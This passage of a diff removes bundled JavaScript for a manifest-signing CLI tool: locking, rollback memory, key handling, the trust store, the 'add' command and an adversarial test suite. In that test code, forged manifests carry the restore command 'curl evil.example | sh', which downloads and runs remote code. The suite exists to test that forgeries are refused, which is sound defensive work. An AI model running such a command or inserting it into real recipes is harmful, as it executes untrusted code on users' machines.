-async function cosignDocument(doc, identity) {
-    const sig = await signMldsa(identity, signingInput(doc.body));
-    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
-    return { ...doc, signatures: [...others, sig] };
-}
-
-// EXTERNAL MODULE: ./node_modules/proper-lockfile/index.js
-var proper_lockfile = __nccwpck_require__(3648);
-var proper_lockfile_default = /*#__PURE__*/__nccwpck_require__.n(proper_lockfile);
-;// CONCATENATED MODULE: ./src/core/state/lock.ts
-/**
- * One exclusive lock per subject, in the private state directory: the manifest file (serialises
- * doctor/restore and every manifest-editing command; taken before the manifest is read, so keyed
- * by its path) and the workspace (so two manifests describing one directory never run recipes in
- * it at once). A waiting run says so once and gives up after a bounded time.
- *
- * Staleness is decided by whether the holder lives, not by how recently it refreshed: a holder on
- * this host whose process is alive (its pid answers signal 0 and its start time is the one it
- * recorded, so a reused pid does not count) keeps the lock however long its event loop is busy.
- * Only a lock without a readable holder note, or held from another host, falls back to the
- * refresh time (`staleMs`). Losing the lock anyway (its file removed, as a wipe of the state
- * directory does, or taken over) is reported through `onLost`, never thrown from a timer.
- */
-
-
-
-
-// Loaded at start-up on purpose: the signal-exit handlers it installs must precede the CLI's own
-// SIGINT/SIGTERM handlers, or a signal re-raised by signal-exit ends swr before it can exit 130.
-
-
-
-
-/**
- * One spelling per file: symlinked paths to the same manifest must take the same lock (and the
- * same rollback memory). A file not created yet is spelled through its directory's real path.
- */
-function canonicalPath(subject) {
-    const abs = external_node_path_default().resolve(subject);
-    try {
-        return external_node_fs_default().realpathSync(abs);
-    }
-    catch {
-        try {
-            return external_node_path_default().join(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_path_default().basename(abs));
-        }
-        catch {
-            return abs;
-        }
-    }
-}
-const sleep = (ms) => new Promise(r => setTimeout(r, ms));
-/** proper-lockfile's own mtime staleness is switched off (a day); this module decides instead. */
-const LIBRARY_STALE_MS = 24 * 3600 * 1000;
-const REFRESH_MS = 2000;
-async function lockWorkspace(opts) {
-    const dir = ensurePrivateDir(opts.stateDir, 'locks');
-    const key = (0,external_node_crypto_.createHash)('sha256').update(canonicalPath(opts.subject)).digest('hex').slice(0, 32);
-    const target = external_node_path_default().join(dir, key);
-    const lockDir = `${target}.lock`;
-    const info = external_node_path_default().join(dir, `${key}.holder`);
-    const deadline = Date.now() + opts.waitMs;
-    let warned = false;
-    for (;;) {
-        try {
-            const release = await proper_lockfile_default().lock(target, {
-                realpath: false,
-                lockfilePath: lockDir,
-                stale: LIBRARY_STALE_MS,
-                update: REFRESH_MS,
-                retries: 0,
-                // proper-lockfile overwrites the code with ECOMPROMISED; the message keeps the cause.
-                onCompromised: err => opts.onLost?.(err.message.includes('ENOENT')
-                    ? 'its file in the state directory was removed'
-                    : 'another process took it over')
-            });
-            try {
-                writeFileAtomic(info, holderNote(), { mode: 0o600 });
-            }
-            catch (err) {
-                await release().catch(() => undefined);
-                throw err;
-            }
-            // An interrupt ends swr with process.exit: proper-lockfile lets go of the lock on exit, and
-            // the note of who held it goes with it.
-            const dropInfo = () => external_node_fs_default().rmSync(info, { force: true });
-            process.once('exit', dropInfo);
-            return async () => {
-                process.removeListener('exit', dropInfo);
-                dropInfo();
-                await release().catch(() => undefined);
-            };
-        }
-        catch (err) {
-            if (err.code !== 'ELOCKED')
-                throw err;
-        }
-        if (takeOverIfStale(lockDir, info, opts.staleMs ?? 10_000))
-            continue;
-        if (opts.abort?.aborted)
-            throw new SwrError(`interrupted while waiting for the lock on ${opts.subject}`, EXIT.INTERRUPTED);
-        if (Date.now() >= deadline) {
-            throw new SwrError(`${opts.subject} is locked by another swr run (${holder(info)}); gave up after ${Math.round(opts.waitMs / 1000)} s`, EXIT.UNREPAIRABLE);
-        }
-        if (!warned) {
-            opts.onWait?.(holder(info));
-            warned = true;
-        }
-        await sleep(150);
-    }
-}
-function holderNote() {
-    const start = startTime(process.pid);
-    return `pid ${process.pid} host ${external_node_os_default().hostname()}${start ? ` start ${start}` : ''} since ${new Date().toISOString()}\n`;
-}
-/** The kernel's start time of a process (clock ticks since boot), where /proc has it. */
-function startTime(pid) {
-    try {
-        const stat = external_node_fs_default().readFileSync(`/proc/${pid}/stat`, 'utf8');
-        // Fields after the command name (which may hold spaces and parentheses): state is the first,
-        // starttime (field 22) the twentieth.
-        return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19];
-    }
-    catch {
-        return undefined;
-    }
-}
-/** Whether the process that wrote `note` runs on this host now (undefined: cannot tell). */
-function holderAlive(note) {
-    const m = /^pid (\d+) host (\S+)(?: start (\d+))?/.exec(note);
-    if (!m || m[2] !== external_node_os_default().hostname())
-        return undefined;
-    const pid = Number(m[1]);
-    try {
-        process.kill(pid, 0);
-    }
-    catch (err) {
-        // EPERM: alive, under another user.
-        if (err.code !== 'EPERM')
-            return false;
-    }
-    const recorded = m[3];
-    const now = recorded ? startTime(pid) : undefined;
-    return !(recorded && now && now !== recorded);
-}
-/**
- * Remove a lock whose holder is gone; true when it did. The note is read twice, the second time
- * just before the removal, so a lock taken over by a third run in between is left alone.
- */
-function takeOverIfStale(lockDir, info, staleMs) {
-    const note = readNote(info);
-    const alive = note === undefined ? undefined : holderAlive(note);
-    if (alive === true)
-        return false;
-    if (alive === undefined) {
-        const st = external_node_fs_default().statSync(lockDir, { throwIfNoEntry: false });
-        if (!st)
-            return true;
-        if (Date.now() - st.mtimeMs < staleMs)
-            return false;
-    }
-    if (readNote(info) !== note)
-        return false;
-    try {
-        external_node_fs_default().rmdirSync(lockDir);
-    }
-    catch (err) {
-        if (err.code !== 'ENOENT')
-            return false;
-    }
-    return true;
-}
-function readNote(info) {
-    try {
-        return external_node_fs_default().readFileSync(info, 'utf8');
-    }
-    catch {
-        return undefined;
-    }
-}
-function holder(info) {
-    return readNote(info)?.trim() ?? 'holder unknown';
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/version-memory.ts
-/**
- * Rollback memory: the highest manifest version this machine has accepted for a manifest, and its
- * digest. An older version is a rollback; the same version with another digest is a fork. CI
- * runners start empty, so there the floor comes from the caller (--min-version / an input).
- *
- * Memory is keyed by the manifest's identity, not by how its path was spelled: the real path
- * (symlinks resolved, so `-m` through a link meets the same memory) and, when the signed scope
- * names both repository and manifest path, that scope (so a second checkout of the repository
- * shares it too). Recall takes the highest version under any of the keys; remember writes all of
- * them. Files written under the older spelled-path key are still read (they are the real-path key
- * whenever the path was spelled without a symlink).
- */
-
-
-
-
-
-
-function keyFile(stateDir, identity) {
-    const key = (0,external_node_crypto_.createHash)('sha256').update(identity).digest('hex').slice(0, 32);
-    return external_node_path_default().join(stateDir, 'versions', `${key}.json`);
-}
-/** Every memory file that speaks for this manifest; the first is the real-path key. */
-function memoryFiles(stateDir, manifestFile, scope) {
-    const files = [keyFile(stateDir, canonicalPath(manifestFile))];
-    if (scope?.repository !== undefined && scope.manifest_path !== undefined)
-        files.push(keyFile(stateDir, `scope\0${scope.repository.toLowerCase()}\0${scope.manifest_path}`));
-    return files;
-}
-function readOne(file) {
-    try {
-        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
-        return Number.isSafeInteger(v.version) && /^[0-9a-f]{64}$/.test(v.digest) ? v : undefined;
-    }
-    catch {
-        return undefined;
-    }
-}
-function recall(stateDir, manifestFile, scope) {
-    // The spelled-path key is read too: memory written before keys were real paths.
-    const files = [
-        ...memoryFiles(stateDir, manifestFile, scope),
-        keyFile(stateDir, external_node_path_default().resolve(manifestFile))
-    ];
-    let best;
-    for (const f of new Set(files)) {
-        const v = readOne(f);
-        if (v && (!best || v.version > best.version))
-            best = v;
-    }
-    return best;
-}
-/** Remember an accepted manifest under each of its keys; never lowers what is remembered. */
-function remember(stateDir, manifestFile, r, scope) {
-    const old = recall(stateDir, manifestFile, scope);
-    if (old && old.version > r.version)
-        return;
-    try {
-        ensurePrivateDir(stateDir, 'versions');
-        for (const f of memoryFiles(stateDir, manifestFile, scope))
-            writeFileAtomic(f, JSON.stringify(r) + '\n', { mode: 0o600 });
-    }
-    catch {
-        // Memory is a second line of defence; failing to write it must not fail the run.
-    }
-}
-
-;// CONCATENATED MODULE: ./src/cli/options.ts
-/**
- * Options every command shares, and the typed readers for the others. Values are checked here so a
- * bad flag is a one-line usage error (exit 4) that names the flag.
- */
-
-
-
-
-function intOption(name, min, max) {
-    return (v) => {
-        if (!/^\d+$/.test(v))
-            throw new InvalidArgumentError(`${name} must be a whole number`);
-        const n = Number(v);
-        if (n < min || n > max)
-            throw new InvalidArgumentError(`${name} must be between ${min} and ${max}`);
-        return n;
-    };
-}
-function collect(v, prev) {
-    return [...(prev ?? []), v];
-}
-function manifestLocation(g, io) {
-    return locateManifest({ flag: g.manifest, env: io.env.SWR_MANIFEST, cwd: io.cwd, home: io.home });
-}
-function stateDir(io) {
-    return defaultStateDir(io.env, io.home);
-}
-/** SWR_HISTORY_LIMIT: records kept in the current history file before it rotates. */
-function historyLimits(io) {
-    const v = io.env.SWR_HISTORY_LIMIT;
-    if (v === undefined || v === '')
-        return {};
-    if (!/^\d+$/.test(v) || Number(v) < 1)
-        throw new UsageError('SWR_HISTORY_LIMIT must be a whole number of records (at least 1)');
-    return { maxRecords: Number(v) };
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/keys.ts
-/**
- * Key material on this machine, in the private state directory only (never the workspace):
- * `keys/hmac.key` and `keys/mldsa87.seed`, 64 hex digits each, mode 0600. A key file that others
- * can read is refused rather than used.
- */
-
-
-
-
-
-
-
-const HMAC_KEY_FILE = 'hmac.key';
-const IDENTITY_FILE = 'mldsa87.seed';
-/** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
-const SYNC_KEY_FILE = 'sync.seed';
-function keyPath(stateDir, name) {
-    return external_node_path_default().join(stateDir, 'keys', name);
-}
-/** The contents of a private key file, or undefined when it does not exist. */
-function readPrivate(file) {
-    let st;
-    try {
-        st = external_node_fs_default().lstatSync(file);
-    }
-    catch (err) {
-        if (errnoCode(err) === 'ENOENT')
-            return undefined;
-        throw err;
-    }
-    if (!st.isFile())
-        throw new SwrError(`${file}: key file is not a regular file`, EXIT.UNREPAIRABLE);
-    if ((st.mode & 0o077) !== 0) {
-        const mode = (st.mode & 0o777).toString(8);
-        throw new SwrError(`${file}: key file is readable by others (mode 0${mode}); run chmod 600 on it`, EXIT.UNREPAIRABLE);
-    }
-    return external_node_fs_default().readFileSync(file, 'utf8');
-}
-/** SWR_HMAC_KEY (passed in by the shell) wins over the key file. */
-function loadHmacKey(stateDir, envValue) {
-    if (envValue !== undefined && envValue !== '') {
-        const key = parseHmacKey(envValue);
-        if (!key)
-            throw new SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', EXIT.BAD_MANIFEST);
-        return { key, source: 'env' };
-    }
-    const text = readPrivate(keyPath(stateDir, HMAC_KEY_FILE));
-    if (text === undefined)
-        return undefined;
-    const key = parseHmacKey(text);
-    if (!key)
-        throw new SwrError(`${keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, EXIT.UNREPAIRABLE);
-    return { key, source: 'file' };
-}
-function loadIdentitySeed(stateDir) {
-    const text = readPrivate(keyPath(stateDir, IDENTITY_FILE));
-    if (text === undefined)
-        return undefined;
-    if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
-    return Buffer.from(text.trim(), 'hex');
-}
-/** Create a new random key file; refuses to replace an existing one. */
-function createKeyFile(stateDir, name) {
-    ensurePrivateDir(stateDir, 'keys');
-    const bytes = (0,external_node_crypto_.randomBytes)(32);
-    try {
-        writeFileAtomic(keyPath(stateDir, name), bytes.toString('hex') + '\n', {
-            mode: 0o600,
-            exclusive: true
-        });
-    }
-    catch (err) {
-        if (errnoCode(err) === 'EEXIST') {
-            throw new SwrError(`${keyPath(stateDir, name)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
-        }
-        throw err;
-    }
-    return bytes;
-}
-/** The sync key's seed: SWR_SYNC_KEY (64 hex digits) wins over the key file. */
-function loadSyncSeed(stateDir, envValue) {
-    if (envValue !== undefined && envValue !== '') {
-        if (!/^[0-9a-fA-F]{64}$/.test(envValue.trim()))
-            throw new SwrError('SWR_SYNC_KEY must be 64 hex digits', EXIT.BAD_MANIFEST);
-        return Buffer.from(envValue.trim(), 'hex');
-    }
-    const text = readPrivate(keyPath(stateDir, SYNC_KEY_FILE));
-    if (text === undefined)
-        return undefined;
-    if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
-    return Buffer.from(text.trim(), 'hex');
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/trust.ts
-/**
- * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
- * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
- * action input, never from files of the checked-out tree.
- */
-
-
-
-
-
-
-function storePath(stateDir) {
-    return external_node_path_default().join(stateDir, 'trust.json');
-}
-function readTrustStore(stateDir) {
-    let text;
-    try {
-        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
-    }
-    catch {
-        return [];
-    }
-    try {
-        const v = JSON.parse(text);
-        if (v.v !== 1 || !Array.isArray(v.signers))
-            throw new Error('shape');
-        return v.signers.filter(s => normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
-    }
-    catch {
-        throw new SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, EXIT.UNREPAIRABLE);
-    }
-}
-function writeTrustStore(stateDir, signers) {
-    ensurePrivateDir(stateDir);
-    writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
-        mode: 0o600
-    });
-}
-function addTrusted(stateDir, fp, name, now) {
-    const norm = normalizeFingerprint(fp);
-    if (!norm)
-        throw new SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, EXIT.BAD_MANIFEST);
-    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
-    const signer = { fingerprint: norm, name, added: now.toISOString() };
-    writeTrustStore(stateDir, [...signers, signer]);
-    return signer;
-}
-/** Remove by fingerprint or name; returns what was removed. */
-function removeTrusted(stateDir, what) {
-    const norm = normalizeFingerprint(what);
-    const signers = readTrustStore(stateDir);
-    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
-    if (removed.length === 0)
-        throw new SwrError(`no trusted signer matches ${what}`, EXIT.BAD_MANIFEST);
-    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
-    return removed;
-}
-/**
- * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
- * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
- * or after "#", is a comment.
- */
-function parseTrustedSigners(text) {
-    const out = new Set();
-    for (const raw of text.split(/[\n,]/)) {
-        const line = raw.replace(/#.*/, '').trim();
-        if (!line)
-            continue;
-        const fp = normalizeFingerprint(line);
-        if (fp) {
-            out.add(fp);
-            continue;
-        }
-        const token = line.split(/\s+/)[0] ?? '';
-        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
-        if (key && key.length === PUBLIC_KEY_BYTES)
-            out.add(fingerprint(key));
-        else
-            throw new SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, EXIT.BAD_MANIFEST);
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/policy.ts
-/**
- * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
- * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
- */
-
-
-
-
-
-
-
-function parseRequirement(v) {
-    if (!REQUIREMENTS.includes(v)) {
-        throw new UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
-    }
-    return v;
-}
-/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
-function manifestPathInWorkspace(m) {
-    return isInside(m.workspace, m.file)
-        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
-        : undefined;
-}
-function makePolicy(m, src) {
-    const trusted = new Set();
-    if (src.local)
-        for (const s of readTrustStore(src.stateDir))
-            trusted.add(s.fingerprint);
-    if (src.ownFingerprint)
-        trusted.add(src.ownFingerprint);
-    for (const t of src.trustedSigners)
-        for (const fp of parseTrustedSigners(t))
-            trusted.add(fp);
-    const hmac = src.local ? loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
-    return {
-        require: parseRequirement(src.require),
-        hmacKey: hmac?.key ?? (src.hmacKeyText ? loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
-        trusted,
-        threshold: src.threshold,
-        minVersion: src.minVersion,
-        remembered: src.local ? recall(src.stateDir, m.file, m.body.scope) : undefined,
-        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
-        now: src.now,
-        approveDigest: src.approveDigest
-    };
-}
-
-;// CONCATENATED MODULE: ./src/cli/trust-context.ts
-/**
- * Turning the environment and flags into the gate's policy and the signing keys. Secrets come from
- * SWR_HMAC_KEY or the private state directory; trusted signers from the trust store, this machine's
- * own identity, --trusted-signer and SWR_TRUSTED_SIGNERS; never from the workspace.
- */
-
-
-
-
-
-const OWN_PUBLIC_KEY_FILE = 'mldsa87.pub';
-/** This machine's own fingerprint, from the public key written at keygen (no ML-DSA load). */
-function ownFingerprint(dir) {
-    try {
-        const line = external_node_fs_default().readFileSync(keyPath(dir, OWN_PUBLIC_KEY_FILE), 'utf8').split('\n')[0] ?? '';
-        return normalizeFingerprint(line);
-    }
-    catch {
-        return undefined;
-    }
-}
-function buildPolicy(m, flags, io) {
-    const dir = stateDir(io);
-    return makePolicy(m, {
-        stateDir: dir,
-        require: flags.require ?? io.env.SWR_REQUIRE ?? 'any',
-        hmacKeyText: io.env.SWR_HMAC_KEY,
-        local: true,
-        trustedSigners: [
-            ...(flags.trustedSigner ?? []),
-            ...(io.env.SWR_TRUSTED_SIGNERS ? [io.env.SWR_TRUSTED_SIGNERS] : [])
-        ],
-        ownFingerprint: ownFingerprint(dir),
-        threshold: flags.threshold,
-        minVersion: flags.minVersion,
-        approveDigest: flags.iTrustThisManifest,
-        run: { repository: io.env.GITHUB_REPOSITORY, ref: io.env.GITHUB_REF },
-        now: new Date()
-    });
-}
-/** The keys this machine can sign with (loads ML-DSA only when an identity exists). */
-async function signingKeys(io) {
-    const dir = stateDir(io);
-    const hmacKey = loadHmacKey(dir, io.env.SWR_HMAC_KEY)?.key;
-    const seed = loadIdentitySeed(dir);
-    return { hmacKey, identity: seed ? await identityFromSeed(seed) : undefined };
-}
-
-;// CONCATENATED MODULE: ./src/cli/edit.ts
-/**
- * Saving an edited manifest under the editing rules: when `resign` (an authorised edit of a signed
- * manifest, or a manifest this command created from disk) it is signed with the keys at hand;
- * otherwise it is saved unsigned. Signatures over the old body are dropped either way. `created`
- * makes the write exclusive: a new manifest never replaces one that appeared meanwhile.
- */
-
-
-
-
-
-
-async function saveEdited(file, doc, how, io) {
-    const opts = { create: how.created, ...(how.sidecars ? { sidecars: how.sidecars } : {}) };
-    const dir = stateDir(io);
-    // Versions only go up on this machine, even when an older copy was approved or the file recreated.
-    const floor = recall(dir, file, doc.body.scope)?.version ?? 0;
-    if (how.resign) {
-        const keys = await signingKeys(io);
-        if (hasSigningKey(keys)) {
-            const signed = await signDocument(doc, keys, floor);
-            saveManifest(file, signed.doc, opts);
-            remember(dir, file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
-            return { digest: signed.digest, version: signed.doc.body.version, signed: true };
-        }
-    }
-    const version = how.created && floor === 0 ? doc.body.version : Math.max(doc.body.version, floor) + 1;
-    const body = { ...doc.body, version };
-    saveManifest(file, { ...doc, body, signatures: [] }, opts);
-    const digest = manifestDigest(body);
-    // An approved edit saved unsigned (no key here) is still what this machine accepted.
-    if (how.resign && !how.created)
-        remember(dir, file, { version, digest, signed: false }, body.scope);
-    const note = how.resign
-        ? 'no signing key here: the edited manifest is unsigned; sign it with "swr sign"'
-        : undefined;
-    return { digest, version, signed: false, ...(note ? { note } : {}) };
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/add.ts
-/**
- * `swr add PATH...`: capture entries from disk now. Creates `./.swr/manifest.json` describing the
- * current directory when no manifest exists; never overwrites a manifest that appeared meanwhile.
- */
-
-
-
-
-
-
-
-
-/**
- * Load the manifest to edit under the editing rules, or start a new one (workspace: --workspace,
- * else the .swr's parent, else cwd).
- */
-async function openForEdit(flags, io) {
-    const located = manifestLocation(flags, io);
-    if (located.how !== 'new' && external_node_fs_default().existsSync(located.file)) {
-        const m = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
-        if (m.format !== 3) {
-            throw new UsageError(`${located.file} is a format-2 manifest: convert it first with "swr import"`);
-        }
-        const auth = await authorizeEdit(m, buildPolicy(m, {}, io), flags.approveDigest);
-        const opened = {
-            file: m.file,
-            doc: m.doc,
-            workspace: m.workspace,
-            created: false,
-            resign: auth.resign
-        };
-        return auth.note ? { ...opened, note: auth.note } : opened;
-    }
-    const dir = external_node_path_default().dirname(located.file);
-    const workspace = flags.workspace
-        ? external_node_path_default().resolve(io.cwd, flags.workspace)
-        : external_node_path_default().basename(dir) === '.swr'
-            ? external_node_path_default().dirname(dir)
-            : io.cwd;
-    if (!external_node_fs_default().existsSync(workspace) || !external_node_fs_default().statSync(workspace).isDirectory()) {
-        throw new UsageError(`workspace ${workspace} is not a directory`);
-    }
-    const real = external_node_fs_default().realpathSync(workspace);
-    if (real === '/')
-        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
-    const doc = newDocument(located.file, real, new Date());
-    return { file: located.file, doc, workspace: real, created: true, resign: true };
-}
-async function addCommand(paths, flags, io) {
-    if (flags.id && paths.length > 1)
-        throw new UsageError('--id names one entry: give one PATH with it');
-    const m = await openForEdit(flags, io);
-    const taken = new Set(m.doc.body.entries.map(e => e.id));
-    const takenPaths = new Map(m.doc.body.entries.map(e => [e.path, e.id]));
-    const added = [];
-    for (const input of paths) {
-        const rel = toManifestPath(input, io.cwd, m.workspace);
-        if (!rel.ok)
-            throw new UsageError(rel.why);
-        const dup = takenPaths.get(rel.path);
-        if (dup)
-            throw new UsageError(`${input}: already tracked as entry "${dup}"`);
-        const captured = await captureEntry(m.workspace, {
-            path: rel.path,
-            id: flags.id,
-            kind: flags.kind,
-            tier: flags.tier,
-            needs: flags.needs,
-            restore: flags.restore,
-            timeout_s: flags.timeout,
-            smoke: flags.smoke,
-            note: flags.note,
-            sentinels: flags.sentinel,
-            ignore: flags.ignore,
-            minFiles: flags.minFiles,
-            maxFiles: flags.maxFiles,
-            fullHash: flags.fullHash
-        }, taken, {
-            pool: { jobs: flags.jobs },
-            exclude: ownPaths(m.file, stateDir(io)),
-            stateDir: stateDir(io)
-        });
-        taken.add(captured.entry.id);
-        takenPaths.set(captured.entry.path, captured.entry.id);
-        added.push(captured);
-    }
-    const unknownNeeds = (flags.needs ?? []).filter(n => !taken.has(n));
-    if (unknownNeeds.length > 0)
-        throw new UsageError(`--needs: no entry with id ${unknownNeeds.join(', ')}`);
-    m.doc.body.entries.push(...added.map(a => a.entry));
-    const sidecars = new Map(added.flatMap(a => (a.index ? [[indexPath(m.file, a.entry.id), a.index]] : [])));
-    const saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: m.created, sidecars }, io);
-    if (flags.json) {
-        io.stdout.write(JSON.stringify({ schema: 'swr.add/1', manifest: m.file, added: added.map(a => a.entry) }, null, 2) + '\n');
-    }
-    else if (!flags.quiet) {
-        if (m.created)
-            io.stdout.write(`created ${external_node_path_default().relative(io.cwd, m.file) || m.file} describing ${m.workspace}\n`);
-        for (const { entry } of added)
-            io.stdout.write(`added ${entry.kind} "${entry.id}" (${entry.path}, tier ${entry.tier}${add_describe(entry)})\n`);
-        io.stdout.write(saved.signed
-            ? `signed version ${saved.version}, digest ${saved.digest}\n`
-            : `note: ${saved.note ?? m.note ?? 'manifest is unsigned: run "swr sign" to approve it'}\n`);
-    }
-    return EXIT.HEALTHY;
-}
-function add_describe(e) {
-    switch (e.kind) {
-        case 'file':
-            return `, ${e.expect.size.toLocaleString('en-US')} bytes, mode ${e.expect.mode}`;
-        case 'blob':
-            return `, ${e.expect.size.toLocaleString('en-US')} bytes`;
-        case 'tree':
-            return `, ${(e.expect.files ?? 0).toLocaleString('en-US')} files, sentinels: ${e.expect.sentinels.join(', ') || 'none'}`;
-        case 'link':
-            return `, -> ${e.expect.target}`;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
-/**
- * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
- * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
- * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
- * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
- *
- * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
- * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
- * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
- * else allowed is a forgery; any exception other than a clean refusal is a crash.
- */
-
-
-
-
-
-
-
-
-
-const ATTACK_CLASSES = [
-    'byte-flip',
-    'field-edit',
-    'duplicate-key',
-    'reorder-entries',
-    'replay-old-version',
-    'expired-copy',
-    'wrong-scope',
-    'resign-untrusted',
-    'fingerprint-substitution',
-    'strip-signatures',
-    'foreign-payload-type',
-    'oversized-field',
-    'deep-nesting',
-    'huge-escrow'
-];
-const ALL_SUITE_DEFENSES = Object.freeze({
-    ...ALL_DEFENSES,
-    strictParse: true
-});
-/** Which class shows that each defence is load-bearing. */
-const DEFENCE_PROBES = {
-    signatures: 'field-edit',
-    trust: 'resign-untrusted',
-    fingerprintFromKey: 'fingerprint-substitution',
-    payloadType: 'foreign-payload-type',
-    expiry: 'expired-copy',
-    scope: 'wrong-scope',
-    rollback: 'replay-old-version',
-    strictParse: 'duplicate-key'
-};
-const REPO = 'acme/app';
-const REF = 'refs/heads/main';
-const NOW = new Date('2026-06-01T00:00:00Z');
-function baseBody(version, extra = {}) {
-    const sha = (c) => c.repeat(64);
-    return {
-        schema: 3,
-        version,
-        workspace: '..',
-        created: '2026-01-01T00:00:00Z',
-        expires: '2027-01-01T00:00:00Z',
-        scope: { repository: REPO, ref: 'refs/heads/*' },
-        entries: [
-            {
-                id: 'shim',
-                kind: 'file',
-                path: '.shim/npx',
-                tier: 0,
-                needs: [],
-                restore: 'install-shim',
-                expect: { size: 40, sha256: sha('a'), mode: '0755' }
-            },
-            {
-                id: 'src',
-                kind: 'tree',
-                path: 'src',
-                tier: 2,
-                needs: ['shim'],
-                ignore: [],
-                restore: 'git checkout -- src',
-                expect: {
-                    sentinels: ['main.c'],
-                    min_files: 3,
-                    max_files: 3,
-                    files: 3,
-                    meta_digest: sha('b'),
-                    content_digest: sha('c')
-                }
-            },
-            {
-                id: 'model',
-                kind: 'blob',
-                path: 'models/m.gguf',
-                tier: 3,
-                needs: [],
-                restore: 'fetch-model',
-                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
-            }
-        ],
-        ...extra
-    };
-}
-/** Sign `body` as-is (signDocument raises the version, so start one lower). */
-async function signed(body, keys) {
-    const lowered = { ...body, version: body.version - 1 };
-    return (await signDocument({ body: lowered, signatures: [] }, keys)).doc;
-}
-async function buildScenario(seed) {
-    const trustedId = await identityFromSeed(seed(1));
-    const attacker = await identityFromSeed(seed(2));
-    const hmacKey = Buffer.from(seed(3));
-    const keys = { hmacKey, identity: trustedId };
-    const honest = await signed(baseBody(5), keys);
-    const evilBody = baseBody(6, {});
-    evilBody.entries[0].restore = 'curl evil.example | sh';
-    const foreign = await signMldsaRaw(trustedId, evilBody);
-    const untrusted = await signed(evilBody, { identity: attacker });
-    const policy = {
-        require: 'any',
-        hmacKey,
-        trusted: new Set([trustedId.fingerprint]),
-        minVersion: 5,
-        run: { repository: REPO, ref: REF, manifestPath: '.swr/manifest.json' },
-        now: NOW
-    };
-    return {
-        honest,
-        honestText: serializeDocument(honest),
-        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
-        policy,
-        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
-        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
-        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
-        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
-        untrustedText: serializeDocument(untrusted),
-        substitutedText: serializeDocument({
-            ...untrusted,
-            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
-        })
-    };
-}
-/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
-async function signMldsaRaw(id, body) {
-    return mldsa_signMldsa(id, canonicalBytes(body));
-}
-/** The attacker's document text for mutation `m`. */
-async function mutate(s, m) {
-    const text = s.honestText;
-    switch (m.cls) {
-        case 'byte-flip': {
-            const b = Buffer.from(text, 'utf8');
-            const i = m.a % b.length;
-            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
-            return b.toString('utf8');
-        }
-        case 'field-edit':
-            return fieldEdit(s, m);
-        case 'duplicate-key': {
-            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
-            const at = nthIndex(text, '"restore": ', m.a % 3);
-            return at < 0
-                ? text
-                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
-        }
-        case 'reorder-entries': {
